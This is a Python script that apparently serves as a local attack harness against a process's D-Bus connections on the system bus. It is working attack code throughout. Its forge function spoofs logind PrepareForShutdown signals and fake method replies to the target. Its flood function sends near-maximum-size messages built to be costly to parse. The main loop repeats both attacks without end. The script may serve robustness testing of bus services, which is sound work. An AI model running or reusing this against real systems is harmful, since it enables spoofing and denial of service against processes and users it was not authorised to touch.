"""What a local user may do to the service on the system's bus; run on a host, as that user.

Nothing of guestctl's or of a library's: it writes what no library would.  Its argument is the
process that is to suffer.
"""

from __future__ import annotations

import os
import socket
import struct
import sys
import time
from collections.abc import Sequence
from typing import NamedTuple

BUS = "org.freedesktop.DBus"
LOGIND = ("/org/freedesktop/login1", "org.freedesktop.login1.Manager", "PrepareForShutdown")
CALL, RETURN, ERROR, SIGNAL = 1, 2, 3, 4
#: The longest that dbus-daemon takes from a user is 32 MiB.
HUGE = 31 << 20
Field = tuple[int, str, str | int]


def text(kind: str, value: str | int) -> bytes:
    if isinstance(value, int):
        return struct.pack("<I", value)
    data = value.encode()
    if kind == "g":
        return bytes([len(data)]) + data + b"\0"
    return struct.pack("<I", len(data)) + data + b"\0"


def message(kind: int, serial: int, fields: list[Field], body: bytes, reply_to: int = 0) -> bytes:
    """A message of the bus."""
    parts = b""
    for code, form, value in fields:
        parts += b"\0" * (-len(parts) % 8) + bytes([code, 1]) + form.encode() + b"\0"
        parts += text(form, value)
    if reply_to:
        parts += b"\0" * (-len(parts) % 8) + b"\5\1u\0" + struct.pack("<I", reply_to)
    head = struct.pack("<cBBBIII", b"l", kind, 1 * (kind != CALL), 1, len(body), serial, len(parts))
    return head + parts + b"\0" * (-len(parts) % 8) + body


class Heard(NamedTuple):
    """A message that came: what it replies to, and the name of the error if it is one."""

    kind: int
    reply_to: int
    body: bytes
    error: str


class Connection:
    """One connection to the bus; the limit is in seconds, of each time that it waits."""

    def __init__(self, limit: float = 5) -> None:
        self.socket = socket.socket(socket.AF_UNIX)
        self.socket.settimeout(limit)
        self.socket.connect("/run/dbus/system_bus_socket")
        user = str(os.getuid()).encode().hex().encode()
        for line in (b"\0AUTH EXTERNAL %s\r\n" % user, b"NEGOTIATE_UNIX_FD\r\n"):
            self.socket.sendall(line)
            self.socket.recv(200)
        self.socket.sendall(b"BEGIN\r\n")
        self.serial = 0
        self.ask("Hello")

    def send(
        self,
        kind: int,
        fields: list[Field],
        body: bytes,
        reply_to: int = 0,
        fds: Sequence[int] = (),
    ) -> int:
        """Its serial number."""
        self.serial += 1
        whole = message(kind, self.serial, fields, body, reply_to)
        if fds:
            whole = whole[socket.send_fds(self.socket, [whole], fds) :]
        self.socket.sendall(whole)
        return self.serial

    def ask(self, member: str, argument: str = "") -> bytes:
        """The body of the bus's answer; empty for an error."""
        fields: list[Field] = [(1, "o", "/org/freedesktop/DBus"), (2, "s", BUS), (3, "s", member)]
        fields += [(6, "s", BUS), *([(8, "g", "s")] if argument else [])]
        serial = self.send(CALL, fields, text("s", argument) if argument else b"")
        while True:
            heard = self.receive()
            if heard.kind in (RETURN, ERROR) and heard.reply_to == serial:
                return heard.body if heard.kind == RETURN else b""

    def receive(self) -> Heard:
        """The next message."""
        head = self._exactly(16)
        body, _, fields = struct.unpack("<III", head[4:])
        parts = self._exactly(fields + -fields % 8)
        at = parts.find(b"\5\1u\0")
        reply_to = struct.unpack_from("<I", parts, at + 4)[0] if at >= 0 else 0
        return Heard(head[1], reply_to, self._exactly(body), _error_name(parts))

    def _exactly(self, size: int) -> bytes:
        data = b""
        while len(data) < size:
            piece = self.socket.recv(size - len(data))
            if not piece:
                raise EOFError
            data += piece
        return data


def _error_name(parts: bytes) -> str:
    at = parts.find(b"\4\1s\0")
    if at < 0:
        return ""
    size = struct.unpack_from("<I", parts, at + 4)[0]
    return parts[at + 8 : at + 8 + size].decode()


def victims(connection: Connection, pid: int) -> list[str]:
    """The names on the bus of that process's connections."""
    listed = connection.ask("ListNames").split(b"\0")
    names = {part[part.find(b":") :].decode() for part in listed if b":" in part}
    answers = {name: connection.ask("GetConnectionUnixProcessID", name) for name in names}
    return [name for name, body in answers.items() if body == struct.pack("<I", pid)]


def forge(connection: Connection, victim: str) -> None:
    """Say that logind announces a shutdown, in every way, as the answer to every question."""
    path, interface, member = LOGIND
    fields = [(1, "o", path), (2, "s", interface), (3, "s", member), (6, "s", victim)]
    variant = b"\1b\0\0\1\0\0\0"
    for number in range(1, 300):
        connection.send(SIGNAL, [*fields, (8, "g", "b")], b"\1\0\0\0", number)
        connection.send(SIGNAL, [*fields, (8, "g", "v")], variant, number)
        connection.send(RETURN, [(6, "s", victim), (8, "g", "v")], variant, number)


def flood(connection: Connection, victim: str) -> None:
    """Send as much as the bus takes, in the form that costs most to read."""
    path, interface, member = LOGIND
    fields = [(1, "o", path), (2, "s", interface), (3, "s", member), (6, "s", victim)]
    pair = text("s", "abc") + text("g", "s") + b"\0" + text("s", "defghij")
    pairs = pair * (HUGE // len(pair))
    body = struct.pack("<II", len(pairs), 0) + pairs
    connection.send(SIGNAL, [*fields, (8, "g", "ay")], struct.pack("<I", HUGE) + bytes(HUGE))
    connection.send(SIGNAL, [*fields, (8, "g", "a(sv)")], body)


def main() -> None:
    pid = int(sys.argv[1])
    sent = 0
    while True:
        for attack in (forge, flood):
            try:
                found = victims(Connection(), pid)
                for victim in found:
                    attack(Connection(), victim)
                    sent += 1
                    print(sent, flush=True)
            except (OSError, EOFError):
                time.sleep(0.1)  # thrown out: again


if __name__ == "__main__":
    main()
